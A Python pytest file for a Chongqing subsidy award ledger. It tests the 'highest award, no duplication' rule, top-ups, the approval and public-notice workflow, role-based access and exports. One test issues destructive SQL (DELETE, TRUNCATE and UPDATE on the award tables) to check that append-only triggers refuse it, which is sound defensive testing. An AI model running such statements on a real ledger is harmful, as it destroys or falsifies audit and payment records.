"""The award ledger: 就高不重复 held by the database, the approval workflow, roles, reads and exports.

Amounts are worked out by hand from 渝发改规范〔2024〕7号 and cited where they come from a clause; the awards of
another city policy are recorded without a formula (they stand in for what that policy granted).
"""

import asyncio
import csv
import io
import random
from datetime import date
from decimal import Decimal
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import text
from sqlalchemy.exc import DBAPIError, IntegrityError

from services.eligibility.awards.schemas import AwardNotHigherProblem, AwardStepRefusedProblem
from shared.uscc import make_uscc
from tests.eligibility.awards_support import (
    NOTICE_ENDS_ON,
    OTHER_POLICY,
    PAID_ON,
    PUBLICISED_ON,
    THIS_POLICY,
    award,
    other_policy,
    pay,
    propose,
    rows,
    step,
    written,
)
from tests.eligibility.scenario import project
from tests.support import ANONYMOUS, AUDITOR, CITY, district

# 渝发改规范〔2024〕7号 第（一）条: 10% of the verified investment 12,345,678.95 = 1,234,567.895, rounded half-up to
# the fen: 1,234,567.90, below the 5,000,000 cap.
INVESTMENT = "12345678.95"
M01_MAX = "1234567.90"


pytestmark = pytest.mark.usefixtures("award_ledger")


async def investment(registry, district_code: str = "500103", amount: str = INVESTMENT) -> str:
    from tests.eligibility.scenario import enterprise

    owner = await enterprise(registry, district_code, sector="software_it", spun_off=False)
    return await project(
        registry,
        kind="investment",
        owner_uscc=owner,
        district_code=district_code,
        year=2025,
        verified_investment_yuan=amount,
    )


def m01(project_id: str, amount: str, **extra) -> dict[str, Any]:
    return {"measure_id": "M01", "subject_type": "project", "subject_id": project_id, "amount_yuan": amount, **extra}


# ---- 就高不重复 ---------------------------------------------------------------------------------------------------


async def test_a_first_award_stands_with_its_calculation(city, registry, clock):
    p = await investment(registry)
    created = await propose(city, m01(p, M01_MAX))
    assert created["status"] == "proposed" and created["is_standing"]
    assert created["policy"] == THIS_POLICY
    assert created["amount_yuan"] == created["payable_yuan"] == M01_MAX
    assert created["stacking_key"] == f"project:{p}" and created["year"] is None
    assert created["district_code"] == "500103" and created["recipient"]
    assert created["allowed_actions"] == ["approve", "reject", "withdraw"]
    calculation = created["calculation"]
    assert calculation["amount_yuan"] == M01_MAX and calculation["eligible"]
    # A one-off award is computed on the day it is proposed: the clock's today.
    assert calculation["as_of"] == PUBLICISED_ON and calculation["source"] == f"registry: GET /projects/{p}"
    assert calculation["facts"]["verified_investment_yuan"] == INVESTMENT
    assert any(s["citation"] == "渝发改规范〔2024〕7号 第（一）条" for s in calculation["trace"])
    [event] = created["events"]
    assert (event["event"], event["from_status"], event["to_status"], event["actor_role"]) == (
        "propose",
        None,
        "proposed",
        "city",
    )
    assert event["request_id"]


async def test_an_award_event_keeps_the_systems_request_id_and_the_callers_beside_it(city, registry):
    p = await investment(registry)
    ids = {"X-Request-ID": "f" * 32, "X-Client-Request-ID": "mine-7"}  # as the gateway passes them on
    response = await city.post("/awards", json=m01(p, M01_MAX), headers=ids)
    assert response.status_code == 201 and response.headers["x-request-id"] == "mine-7"
    [event] = response.json()["events"]
    assert (event["request_id"], event["client_request_id"]) == ("f" * 32, "mine-7")


async def test_a_higher_award_supersedes_a_lower_one_not_yet_paid(city, registry, eligibility_app):
    p = await investment(registry)
    # Another policy granted 1,000,000.00 to the project and it is approved, not paid.
    lower = await propose(city, other_policy("project", p, "1000000.00"))
    await step(city, lower["id"], "approve")
    # This policy's （一） gives 1,234,567.90: higher, so it supersedes.
    higher = await propose(city, m01(p, M01_MAX))
    assert higher["is_standing"] and higher["payable_yuan"] == M01_MAX and higher["tops_up_award_id"] is None
    assert (
        f"supersedes award {lower['id']} of 1000000.00 yuan under {OTHER_POLICY} (approved)"
        in (higher["events"][0]["reason"])
    )
    old = await award(city, lower["id"])
    assert old["status"] == "superseded" and not old["is_standing"] and old["superseded_by_id"] == higher["id"]
    assert old["allowed_actions"] == []
    assert [(e["event"], e["from_status"], e["to_status"]) for e in old["events"]] == [
        ("propose", None, "proposed"),
        ("approve", "proposed", "approved"),
        ("supersede", "approved", "superseded"),
    ]
    assert old["events"][-1]["reason"] == (
        f"superseded by award {higher['id']} of {M01_MAX} yuan under {THIS_POLICY} (就高不重复)"
    )
    standing = (await city.get("/awards", params={"subject_id": p, "standing": "true"})).json()["items"]
    assert [item["id"] for item in standing] == [higher["id"]]
    assert await rows(eligibility_app, "awards") == 2


@pytest.mark.parametrize("amount", ["1234567.89", M01_MAX], ids=["lower", "equal"])
async def test_a_lower_or_equal_award_is_refused_naming_the_one_that_stands(city, registry, eligibility_app, amount):
    p = await investment(registry)
    standing = await propose(city, m01(p, M01_MAX))
    before = await written(eligibility_app)
    response = await city.post("/awards", json=other_policy("project", p, amount))
    assert response.status_code == 409
    assert response.headers["content-type"] == "application/problem+json"
    problem = response.json()
    assert problem["type"] == "/problems/award-not-higher"
    assert AwardNotHigherProblem.model_validate(problem).standing_award is not None
    assert problem["standing_award"] == {
        "id": standing["id"],
        "measure_id": "M01",
        "policy": THIS_POLICY,
        "amount_yuan": M01_MAX,
        "payable_yuan": M01_MAX,
        "status": "proposed",
    }
    assert f"award {standing['id']} of {M01_MAX} yuan" in problem["detail"] and "就高不重复" in problem["detail"]
    assert await written(eligibility_app) == before
    assert (await award(city, standing["id"]))["is_standing"]


async def test_a_higher_award_after_a_paid_one_tops_it_up_by_the_difference(city, registry, clock):
    p = await investment(registry)
    first = await propose(city, other_policy("project", p, "800000.00"))
    paid = await pay(city, clock, first["id"])
    assert paid["status"] == "paid" and paid["paid_on"] == PAID_ON and paid["is_standing"]

    # （一）1,234,567.90 − 800,000.00 already paid = 434,567.90 to pay.
    top_up = await propose(city, m01(p, M01_MAX))
    assert top_up["tops_up_award_id"] == first["id"]
    assert top_up["amount_yuan"] == M01_MAX and top_up["payable_yuan"] == "434567.90"
    first_now = await award(city, first["id"])
    assert first_now["status"] == "paid" and not first_now["is_standing"] and first_now["superseded_by_id"] is None
    assert first_now["events"][-1]["event"] == "top_up" and "434567.90" in first_now["events"][-1]["reason"]

    await pay(city, clock, top_up["id"])
    paid_total = (await city.get("/awards/summary", params={"subject_id": p, "status": "paid", "group_by": []})).json()
    # The total paid is the highest single amount: 800,000.00 + 434,567.90 = 1,234,567.90.
    assert paid_total["totals"] == {"count": 2, "amount_yuan": "2034567.90", "payable_yuan": M01_MAX}

    # Another policy grants 2,000,000.00 later: it tops up the paid top-up, 2,000,000.00 − 1,234,567.90 = 765,432.10.
    again = await propose(city, other_policy("project", p, "2000000.00"))
    assert again["tops_up_award_id"] == top_up["id"] and again["payable_yuan"] == "765432.10"


async def test_superseding_an_unpaid_top_up_still_pays_only_the_difference(city, registry, clock):
    p = await investment(registry)
    first = await propose(city, other_policy("project", p, "800000.00"))
    await pay(city, clock, first["id"])
    top_up = await propose(city, other_policy("project", p, "1000000.00"))
    assert top_up["payable_yuan"] == "200000.00"
    # Before the top-up is paid, （一）1,234,567.90 supersedes it and tops up the paid 800,000.00: 434,567.90.
    higher = await propose(city, m01(p, M01_MAX))
    assert higher["tops_up_award_id"] == first["id"] and higher["payable_yuan"] == "434567.90"
    assert (await award(city, top_up["id"]))["status"] == "superseded"


async def test_a_rejected_top_up_leaves_the_paid_award_standing_again(city, registry, clock):
    p = await investment(registry)
    first = await propose(city, other_policy("project", p, "800000.00"))
    await pay(city, clock, first["id"])
    top_up = await propose(city, m01(p, M01_MAX))
    rejected = await step(city, top_up["id"], "reject", reason="the verified investment is under review")
    assert rejected["status"] == "rejected" and not rejected["is_standing"]
    first_now = await award(city, first["id"])
    assert first_now["is_standing"] and first_now["events"][-1]["event"] == "resume"
    # With the paid 800,000.00 standing again, a lower award is still refused.
    await propose(city, other_policy("project", p, "700000.00"), expected=409)


async def test_a_withdrawn_award_stops_standing_and_a_lower_one_may_then_stand(city, registry):
    p = await investment(registry)
    first = await propose(city, m01(p, M01_MAX))
    await step(city, first["id"], "withdraw", reason="the owner withdrew the application")
    second = await propose(city, other_policy("project", p, "100000.00"))
    assert second["is_standing"] and second["payable_yuan"] == "100000.00"


async def test_concurrent_awards_for_one_subject_leave_exactly_the_highest_standing(
    city, client_for, registry, eligibility_app
):
    p = await investment(registry)
    # 20 distinct amounts up to the （一）maximum, sent at once in a shuffled order, two policies mixed.
    amounts = [Decimal(M01_MAX) - Decimal(1000) * index for index in range(20)]
    random.Random(7).shuffle(amounts)
    bodies = [
        m01(p, f"{amount:.2f}") if index % 2 else other_policy("project", p, f"{amount:.2f}")
        for index, amount in enumerate(amounts)
    ]
    clients = [client_for(CITY) for _ in bodies]
    responses = await asyncio.gather(*(c.post("/awards", json=b) for c, b in zip(clients, bodies, strict=True)))
    statuses = sorted({response.status_code for response in responses})
    assert set(statuses) <= {201, 409}, [r.text for r in responses if r.status_code not in (201, 409)]
    created = [response.json() for response in responses if response.status_code == 201]
    refused = [response.json() for response in responses if response.status_code == 409]
    assert len(created) + len(refused) == 20 and created

    listed = (await city.get("/awards", params={"subject_type": "project", "subject_id": p, "limit": 100})).json()
    items = listed["items"]
    # Refused requests wrote nothing: every row is one of the 201 answers.
    assert sorted(item["id"] for item in items) == sorted(item["id"] for item in created)
    standing = [item for item in items if item["is_standing"]]
    assert len(standing) == 1 and standing[0]["amount_yuan"] == M01_MAX
    for item in items:
        if item["id"] == standing[0]["id"]:
            continue
        detail = await award(city, item["id"])
        assert detail["status"] == "superseded"
        successor = await award(city, detail["superseded_by_id"])
        assert Decimal(successor["amount_yuan"]) > Decimal(detail["amount_yuan"])
        assert [e["event"] for e in detail["events"]] == ["propose", "supersede"]
    for problem in refused:
        assert Decimal(problem["standing_award"]["amount_yuan"]) >= min(amounts)
    assert await rows(eligibility_app, "award_events") == 2 * len(created) - 1


async def test_the_database_itself_holds_one_standing_award_per_key(city, registry, eligibility_app):
    p = await investment(registry)
    standing = await propose(city, m01(p, M01_MAX))
    async with eligibility_app.state.engine.connect() as connection:
        columns = (
            "policy, measure_id, subject_type, subject_id, stacking_key, district_code, amount_yuan, payable_yuan, "
            "status, is_standing, created_at, created_by, updated_at"
        )
        with pytest.raises(IntegrityError):
            await connection.execute(
                text(
                    f"INSERT INTO awards ({columns}) SELECT {columns.replace('amount_yuan, payable_yuan', '2, 2')} "
                    "FROM awards WHERE id = :id"
                ),
                {"id": standing["id"]},
            )


async def test_events_are_append_only_and_awards_never_deleted_or_rewritten_in_postgresql(
    city, registry, eligibility_app
):
    p = await investment(registry)
    created = await propose(city, m01(p, M01_MAX))
    await step(city, created["id"], "reject", reason="duplicate application")
    # The API has no way to delete or rewrite an award, on any database.
    for method in ("DELETE", "PUT", "PATCH"):
        assert (await city.request(method, f"/awards/{created['id']}", json={})).status_code == 405
    async with eligibility_app.state.engine.connect() as connection:
        if connection.dialect.name != "postgresql":
            return  # the triggers below are PostgreSQL's, like those of parameter_amendments
    for statement, refusal in (
        ("UPDATE award_events SET reason = 'rewritten'", "append-only"),
        ("DELETE FROM award_events", "append-only"),
        ("TRUNCATE award_events CASCADE", "append-only"),
        ("DELETE FROM awards", "never deleted"),
        ("UPDATE awards SET amount_yuan = 1", "never rewritten"),
        ("UPDATE awards SET status = 'proposed', is_standing = true", "closed"),
    ):
        async with eligibility_app.state.engine.connect() as connection:
            with pytest.raises(DBAPIError, match=refusal):
                await connection.execute(text(statement))
    assert await written(eligibility_app) == (1, 2)


# ---- the workflow ----------------------------------------------------------------------------------------------


async def test_the_whole_workflow_records_who_when_and_why(city, registry, clock):
    p = await investment(registry)
    clock.hold(date(2025, 5, 30))
    created = await propose(city, m01(p, M01_MAX, reason="screened eligible in 2025"))
    approved = await step(city, created["id"], "approve")
    assert approved["status"] == "approved" and approved["allowed_actions"] == ["publicise", "reject", "withdraw"]
    clock.hold(date(2025, 6, 2))
    publicised = await step(city, created["id"], "publicise")
    assert publicised["publicised_on"] == PUBLICISED_ON and publicised["notice_ends_on"] == NOTICE_ENDS_ON
    # Inside the window an objection is possible, not a payment.
    assert publicised["allowed_actions"] == ["object", "reject", "withdraw"]
    clock.hold(date(2025, 6, 10))
    assert (await award(city, created["id"]))["allowed_actions"] == ["pay", "reject", "withdraw"]
    paid = await step(city, created["id"], "pay")
    assert paid["status"] == "paid" and paid["allowed_actions"] == [] and paid["is_standing"]
    assert [(e["event"], e["from_status"], e["to_status"], e["on"]) for e in paid["events"][1:]] == [
        ("approve", "proposed", "approved", "2025-05-30"),
        ("publicise", "approved", "publicised", PUBLICISED_ON),
        ("pay", "publicised", "paid", PAID_ON),
    ]
    assert paid["events"][0]["reason"] == "screened eligible in 2025"
    assert all(e["actor_role"] == "city" and e["occurred_at"] for e in paid["events"])
    # The old name of the time, deprecated, is sent alongside for one more release.
    assert all(e["at"] == e["occurred_at"] for e in paid["events"])


async def test_a_notice_starts_today_and_cannot_be_backdated(city, registry, clock, eligibility_app):
    award_id = await _award_in(city, registry, clock, "approved")
    counts = await written(eligibility_app)
    for on in ("2025-06-01", "2022-01-03"):
        response = await city.post(f"/awards/{award_id}/transitions", json={"action": "publicise", "on": on})
        assert response.status_code == 422, response.text
        assert response.json()["errors"] == [
            {"loc": ["body", "on"], "msg": f"a notice starts today ({PUBLICISED_ON}), not on {on}"}
        ]
    assert await written(eligibility_app) == counts
    publicised = await step(city, award_id, "publicise", on=PUBLICISED_ON)
    assert publicised["publicised_on"] == PUBLICISED_ON


async def test_a_notice_over_national_day_counts_official_working_days(city, registry, clock):
    # 国务院办公厅 2025 schedule: 10-01 … 10-08 off (国庆节、中秋节), Saturday 10-11 worked (调休). A notice published on
    # Tuesday 2025-09-30 runs five working days: 10-09 (1), 10-10 (2), 10-11 (3), 10-13 (4), 10-14 (5).
    clock.hold(date(2025, 9, 30))
    award_id = await _award_in(city, registry, clock, "publicised")
    publicised = await award(city, award_id)
    assert (publicised["publicised_on"], publicised["notice_ends_on"]) == ("2025-09-30", "2025-10-14")
    clock.hold(date(2025, 10, 14))
    await step(city, award_id, "pay", expected=409)
    clock.hold(date(2025, 10, 15))
    assert (await step(city, award_id, "pay"))["paid_on"] == "2025-10-15"


ILLEGAL = {
    "proposed": ["publicise", "object", "pay"],
    "approved": ["approve", "object", "pay"],
    "publicised": ["approve", "publicise"],
    "paid": ["approve", "publicise", "object", "pay", "reject", "withdraw"],
    "rejected": ["approve", "publicise", "object", "pay", "reject", "withdraw"],
    "withdrawn": ["approve", "publicise", "object", "pay", "reject", "withdraw"],
    "superseded": ["approve", "publicise", "object", "pay", "reject", "withdraw"],
}
ALLOWED = {
    "proposed": ["approve", "reject", "withdraw"],
    "approved": ["publicise", "reject", "withdraw"],
    # Inside the notice window (the clock stays on the day of publication).
    "publicised": ["object", "reject", "withdraw"],
}


async def _award_in(city, registry, clock, status: str) -> int:
    p = await investment(registry)
    created = await propose(city, other_policy("project", p, "100000.00"))
    award_id = created["id"]
    if status == "superseded":
        await propose(city, m01(p, M01_MAX))
    elif status == "rejected":
        await step(city, award_id, "reject", reason="not a producer-service project")
    elif status == "withdrawn":
        await step(city, award_id, "withdraw", reason="applied twice")
    elif status in ("approved", "publicised"):
        await step(city, award_id, "approve")
        if status == "publicised":
            await step(city, award_id, "publicise")
    elif status == "paid":
        await pay(city, clock, award_id)
    return int(award_id)


@pytest.mark.parametrize("status", list(ILLEGAL))
async def test_every_illegal_transition_is_a_409_naming_the_status_and_writes_nothing(
    city, registry, eligibility_app, clock, status
):
    award_id = await _award_in(city, registry, clock, status)
    before = await award(city, award_id)
    assert before["status"] == status
    counts = await written(eligibility_app)
    for action in ILLEGAL[status]:
        response = await city.post(f"/awards/{award_id}/transitions", json={"action": action, "reason": "trying"})
        assert response.status_code == 409, (status, action, response.text)
        problem = response.json()
        assert problem["current_status"] == status and problem["allowed_actions"] == ALLOWED.get(status, [])
        assert AwardStepRefusedProblem.model_validate(problem).allowed_actions == ALLOWED.get(status, [])
        assert problem["type"] == "/problems/award-step-refused"
        assert status in problem["detail"] and action in problem["detail"]
    assert await written(eligibility_app) == counts
    assert await award(city, award_id) == before


@pytest.mark.parametrize("action", ["object", "reject", "withdraw"])
async def test_objecting_rejecting_and_withdrawing_need_a_reason(city, registry, eligibility_app, clock, action):
    award_id = await _award_in(city, registry, clock, "publicised")
    counts = await written(eligibility_app)
    response = await city.post(f"/awards/{award_id}/transitions", json={"action": action})
    assert response.status_code == 422
    assert response.json()["errors"] == [{"loc": ["body", "reason"], "msg": f"required to {action}"}]
    assert await written(eligibility_app) == counts


async def test_the_notice_window(city, registry, clock):
    award_id = await _award_in(city, registry, clock, "publicised")
    # Notice from Monday 2025-06-02: five working days end on Monday 2025-06-09; paying on that day is refused.
    clock.hold(date(2025, 6, 9))
    response = await city.post(f"/awards/{award_id}/transitions", json={"action": "pay"})
    assert response.status_code == 409 and response.json()["notice_ends_on"] == NOTICE_ENDS_ON
    refused = AwardStepRefusedProblem.model_validate(response.json())
    assert (refused.award_id, refused.current_status) == (award_id, "publicised") and refused.notice_ends_on
    assert refused.type == "/problems/award-step-refused"
    # An objection on the last day of the window sends it back for review.
    back = await step(city, award_id, "object", reason="a competitor disputes the investment")
    assert back["status"] == "proposed" and back["notice_ends_on"] is None
    assert back["events"][-1]["reason"] == "a competitor disputes the investment"
    await step(city, award_id, "approve")
    # Published again on Friday 2025-06-13: Monday 16 … Friday 20 June, the weekend not counted.
    clock.hold(date(2025, 6, 13))
    again = await step(city, award_id, "publicise")
    assert again["notice_ends_on"] == "2025-06-20"
    clock.hold(date(2025, 6, 23))
    late = await city.post(f"/awards/{award_id}/transitions", json={"action": "object", "reason": "too late"})
    assert late.status_code == 409 and "closed on 2025-06-20" in late.json()["detail"]
    early = await city.post(
        f"/awards/{award_id}/transitions", json={"action": "object", "on": "2025-06-12", "reason": "too early"}
    )
    assert early.status_code == 422 and early.json()["errors"][0]["loc"] == ["body", "on"]
    paid = await step(city, award_id, "pay")
    assert paid["status"] == "paid" and paid["paid_on"] == "2025-06-23"


async def test_a_step_cannot_be_dated_in_the_future(city, registry, eligibility_app, clock):
    award_id = await _award_in(city, registry, clock, "proposed")
    counts = await written(eligibility_app)
    response = await city.post(f"/awards/{award_id}/transitions", json={"action": "approve", "on": "2999-01-01"})
    assert response.status_code == 422 and response.json()["errors"][0]["loc"] == ["body", "on"]
    assert await written(eligibility_app) == counts


@pytest.mark.parametrize(
    ("body", "loc"),
    [
        ({"action": "approve_all"}, ["body", "action"]),
        ({}, ["body", "action"]),
        ({"action": "approve", "on": "someday"}, ["body", "on"]),
    ],
)
async def test_an_unknown_action_is_a_422(city, registry, eligibility_app, clock, body, loc):
    award_id = await _award_in(city, registry, clock, "proposed")
    counts = await written(eligibility_app)
    response = await city.post(f"/awards/{award_id}/transitions", json=body)
    assert response.status_code == 422 and response.json()["errors"][0]["loc"] == loc
    assert await written(eligibility_app) == counts


async def test_a_transition_of_an_unknown_award_is_a_404(city):
    response = await city.post("/awards/999999/transitions", json={"action": "approve"})
    assert response.status_code == 404 and response.headers["content-type"] == "application/problem+json"


# ---- roles -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("principal", [district("500103"), AUDITOR], ids=["district", "auditor"])
async def test_only_the_city_proposes_and_moves_awards(client_for, city, registry, eligibility_app, principal):
    p = await investment(registry)
    created = await propose(city, m01(p, "1000000.00"))
    counts = await written(eligibility_app)
    other = client_for(principal)
    response = await other.post("/awards", json=m01(p, M01_MAX))
    assert response.status_code == 403 and response.headers["content-type"] == "application/problem+json"
    for action in ("approve", "reject"):
        response = await other.post(f"/awards/{created['id']}/transitions", json={"action": action, "reason": "mine"})
        assert response.status_code == 403
    assert await written(eligibility_app) == counts
    assert (await award(city, created["id"]))["status"] == "proposed"


async def test_without_a_key_nothing_is_read_or_written(client_for, eligibility_app):
    counts = await written(eligibility_app)
    body = other_policy("district", "500103", "100000.00", year=2025)
    for principal in (None, ANONYMOUS):
        client = client_for(principal)
        assert (await client.get("/awards")).status_code == 401
        assert (await client.post("/awards", json=body)).status_code == 401
    assert await written(eligibility_app) == counts


async def test_a_district_reads_only_its_own_awards_and_the_auditor_reads_all(client_for, city, registry):
    own = await propose(city, other_policy("enterprise", "91500103MA5U0RKX48", "300000.00", district_code="500103"))
    foreign = await propose(
        city, other_policy("enterprise", make_uscc("91500112MA5U0RKX4"), "400000.00", district_code="500112")
    )
    yuzhong = client_for(district("500103"))
    listed = (await yuzhong.get("/awards")).json()["items"]
    assert [item["id"] for item in listed] == [own["id"]]
    assert (await yuzhong.get(f"/awards/{own['id']}")).status_code == 200
    refused = await yuzhong.get(f"/awards/{foreign['id']}")
    # The refusal does not tell one district which district another award belongs to.
    assert refused.status_code == 403 and "500112" not in refused.json()["detail"]
    assert (await yuzhong.get("/awards", params={"district_code": "500112"})).status_code == 403
    summary = (await yuzhong.get("/awards/summary", params={"group_by": ["district_code"]})).json()
    assert summary["groups"] == [
        {
            "measure_id": None,
            "year": None,
            "district_code": "500103",
            "status": None,
            "policy": None,
            "recipient_kind": None,
            "recipient": None,
            "count": 1,
            "amount_yuan": "300000.00",
            "payable_yuan": "300000.00",
        }
    ]
    auditor = client_for(AUDITOR)
    assert {item["id"] for item in (await auditor.get("/awards")).json()["items"]} == {own["id"], foreign["id"]}
    assert (await auditor.get(f"/awards/{foreign['id']}")).json()["events"][0]["event"] == "propose"


# ---- bad input -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("change", "loc"),
    [
        ({"amount_yuan": "-1.00"}, ["body", "amount_yuan"]),
        ({"amount_yuan": "0.00"}, ["body", "amount_yuan"]),
        ({"amount_yuan": "a lot"}, ["body", "amount_yuan"]),
        ({"amount_yuan": "100.001"}, ["body", "amount_yuan"]),
        ({"amount_yuan": True}, ["body", "amount_yuan"]),
        ({"measure_id": "M99"}, ["body", "measure_id"]),
        ({"subject_type": "platform"}, ["body", "subject_type"]),
        ({"subject_type": "cluster"}, ["body", "subject_type"]),
        ({"subject_id": "007"}, ["body", "subject_id"]),
        ({"subject_id": "abc"}, ["body", "subject_id"]),
        ({"year": 2025}, ["body", "year"]),
        ({"facts_year": 2025}, ["body", "facts_year"]),
        ({"district_code": "500199"}, ["body", "district_code"]),
        ({"district_code": "500112"}, ["body", "district_code"]),
        ({"as_of": "2025-02-30"}, ["body", "as_of"]),
    ],
)
async def test_bad_awards_are_4xx_problems_naming_the_field_and_write_nothing(
    city, registry, eligibility_app, change, loc
):
    p = await investment(registry)
    counts = await written(eligibility_app)
    response = await city.post("/awards", json={**m01(p, "100000.00"), **change})
    assert response.status_code == 422, response.text
    assert response.headers["content-type"] == "application/problem+json"
    assert loc in [error["loc"] for error in response.json()["errors"]]
    assert await written(eligibility_app) == counts


@pytest.mark.parametrize(
    ("body", "loc"),
    [
        # A yearly measure needs its year; a measure without a formula names its district (the registry is not read).
        ({"measure_id": "M03", "subject_type": "cluster", "subject_id": "1"}, ["body", "year"]),
        ({"measure_id": "M08", "subject_type": "enterprise", "subject_id": "91500103MA5U0RKX48"}, ["body", "district_code"]),
        ({"policy": OTHER_POLICY, "measure_id": "第五条", "subject_type": "enterprise", "subject_id": "91500103MA5U0RKX4X", "recipient_kind": "enterprise"}, ["body", "subject_id"]),
        ({"policy": OTHER_POLICY, "measure_id": "第五条", "subject_type": "district", "subject_id": "500199", "year": 2025}, ["body", "subject_id"]),
        ({"policy": OTHER_POLICY, "measure_id": "", "subject_type": "district", "subject_id": "500103", "year": 2025}, ["body", "measure_id"]),
        ({"policy": OTHER_POLICY, "measure_id": "第五条", "subject_type": "district", "subject_id": "500103", "year": 2025, "district_code": "500112"}, ["body", "district_code"]),
    ],
)  # fmt: skip
async def test_more_bad_awards(city, eligibility_app, body, loc):
    counts = await written(eligibility_app)
    response = await city.post("/awards", json={"amount_yuan": "100000.00", **body})
    assert response.status_code == 422, response.text
    assert loc in [error["loc"] for error in response.json()["errors"]]
    assert await written(eligibility_app) == counts


async def test_measures_without_a_formula_and_other_policies_are_recorded_without_the_registry(city):
    # （八）finance support has no formula: recorded as given, for its district.
    m08 = await propose(
        city,
        {
            "measure_id": "M08",
            "subject_type": "enterprise",
            "subject_id": "91500103ma5u0rkx48",
            "amount_yuan": "250000.00",
            "district_code": "500103",
            "subject_name": "重庆某供应链管理有限公司",
        },
    )
    assert m08["calculation"] is None and m08["subject_id"] == "91500103MA5U0RKX48"
    # An enterprise reward, paid to the enterprise itself: once per enterprise and recipient kind.
    assert m08["stacking_key"] == "enterprise:91500103MA5U0RKX48:enterprise"
    assert m08["subject_name"] == "重庆某供应链管理有限公司" and m08["recipient_kind"] == "enterprise"
    district_award = await propose(
        city, {"policy": OTHER_POLICY, "measure_id": "第九条", "subject_type": "district", "subject_id": "500112", "year": 2025, "amount_yuan": "2000000.00"}
    )  # fmt: skip
    assert district_award["district_code"] == "500112" and district_award["stacking_key"] == "district:500112:2025"
    assert district_award["subject_name"] == "渝北区"


async def test_unknown_filters_and_awards(city):
    assert (await city.get("/awards", params={"status": "granted"})).status_code == 422
    assert (await city.get("/awards", params={"subject_type": "platform"})).status_code == 422
    assert (await city.get("/awards", params={"district_code": "500199"})).status_code == 422
    assert (await city.get("/awards", params={"cursor": "not-a-cursor"})).status_code == 422
    assert (await city.get("/awards/summary", params={"group_by": "colour"})).status_code == 422
    assert (await city.get("/awards/123456")).status_code == 404
    assert (await city.get("/awards/abc")).status_code == 422


# ---- reads and exports -----------------------------------------------------------------------------------------


async def test_the_list_is_newest_first_and_follows_its_cursor(city):
    ids = []
    for index in range(5):
        created = await propose(city, other_policy("district", "500103", f"{index + 1}00000.00", year=2020 + index))
        ids.append(created["id"])
    first = (await city.get("/awards", params={"limit": 2})).json()
    second = (await city.get("/awards", params={"limit": 2, "cursor": first["next_cursor"]})).json()
    third = (await city.get("/awards", params={"limit": 2, "cursor": second["next_cursor"]})).json()
    seen = [item["id"] for page in (first, second, third) for item in page["items"]]
    assert seen == sorted(ids, reverse=True) and third["next_cursor"] is None
    by_year = (await city.get("/awards", params={"year": 2022, "policy": OTHER_POLICY})).json()["items"]
    assert [item["amount_yuan"] for item in by_year] == ["300000.00"]


async def _ledger(city, registry, clock) -> dict[str, Any]:
    """Three subjects: a paid award topped up, a superseded one, one rejected. Totals by hand below."""
    p1 = await investment(registry)
    p2 = await investment(registry, "500112", "3000000.00")  # （一）10% × 3,000,000.00 = 300,000.00
    paid = await propose(city, other_policy("project", p1, "800000.00"))
    await pay(city, clock, paid["id"])
    top_up = await propose(city, m01(p1, M01_MAX))  # payable 434,567.90
    lower = await propose(city, other_policy("project", p2, "200000.00"))
    higher = await propose(city, m01(p2, "300000.00"))  # supersedes the 200,000.00
    rejected = await propose(city, other_policy("district", "500103", "1000000.00", year=2025))
    await step(city, rejected["id"], "reject", reason="the district was not ranked")
    return {"paid": paid, "top_up": top_up, "lower": lower, "higher": higher, "rejected": rejected}


async def test_the_summary_totals_by_measure_year_district_and_status(city, registry, clock):
    await _ledger(city, registry, clock)
    summary = (await city.get("/awards/summary")).json()
    assert summary["group_by"] == ["measure_id", "year", "district_code", "status"]
    groups = {(g["measure_id"], g["year"], g["district_code"], g["status"]): (g["count"], g["amount_yuan"], g["payable_yuan"]) for g in summary["groups"]}  # fmt: skip
    assert groups == {
        ("M01", None, "500103", "proposed"): (1, M01_MAX, "434567.90"),
        ("M01", None, "500112", "proposed"): (1, "300000.00", "300000.00"),
        ("第五条", None, "500103", "paid"): (1, "800000.00", "800000.00"),
        ("第五条", None, "500112", "superseded"): (1, "200000.00", "200000.00"),
        ("第五条", 2025, "500103", "rejected"): (1, "1000000.00", "1000000.00"),
    }
    # Standing entitlements: 1,234,567.90 + 300,000.00 = 1,534,567.90, of which 800,000.00 is paid and
    # 434,567.90 + 300,000.00 = 734,567.90 still to pay.
    standing = (await city.get("/awards/summary", params={"standing": "true", "group_by": ["status"]})).json()
    assert standing["totals"] == {"count": 2, "amount_yuan": "1534567.90", "payable_yuan": "734567.90"}
    by_policy = (await city.get("/awards/summary", params={"group_by": ["policy"], "district_code": "500103"})).json()
    assert {g["policy"]: g["count"] for g in by_policy["groups"]} == {OTHER_POLICY: 2, THIS_POLICY: 1}


async def test_the_exports_parse_back_with_the_right_totals(city, client_for, registry, clock):
    ledger = await _ledger(city, registry, clock)
    response = await city.get("/awards/export.csv", params={"standing": "true"})
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    assert 'filename="awards.csv"' in response.headers["content-disposition"]
    table = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [row["award_id"] for row in table] == [str(ledger["top_up"]["id"]), str(ledger["higher"]["id"])]
    assert sum(Decimal(row["amount_yuan"]) for row in table) == Decimal("1534567.90")
    assert sum(Decimal(row["payable_yuan"]) for row in table) == Decimal("734567.90")
    top_up = table[0]
    assert top_up["citation"] == "渝发改规范〔2024〕7号 第（一）条" and top_up["district_name"] == "渝中区"
    assert top_up["tops_up_award_id"] == str(ledger["paid"]["id"]) and top_up["status"] == "proposed"
    # （一）pays the project owner: the recipient is shown with its kind.
    assert top_up["recipient_kind"] == "enterprise" and top_up["recipient"]

    response = await city.get("/awards/export.xlsx", params={"district_code": "500103"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content))["awards"]
    values = list(sheet.iter_rows(values_only=True))
    assert values[1][0] == "序号" and values[1][8] == "受奖单位类型" and values[1][13] == "核定金额（元）"
    body, total = values[2:-1], values[-1]
    assert [row[1] for row in body] == [ledger["paid"]["id"], ledger["top_up"]["id"], ledger["rejected"]["id"]]
    # 800,000.00 + 1,234,567.90 + 1,000,000.00 = 3,034,567.90; payable 800,000.00 + 434,567.90 + 1,000,000.00.
    assert round(Decimal(str(sum(row[13] for row in body))), 2) == Decimal("3034567.90")
    assert round(Decimal(str(total[13])), 2) == Decimal("3034567.90")
    assert round(Decimal(str(total[14])), 2) == Decimal("2234567.90")
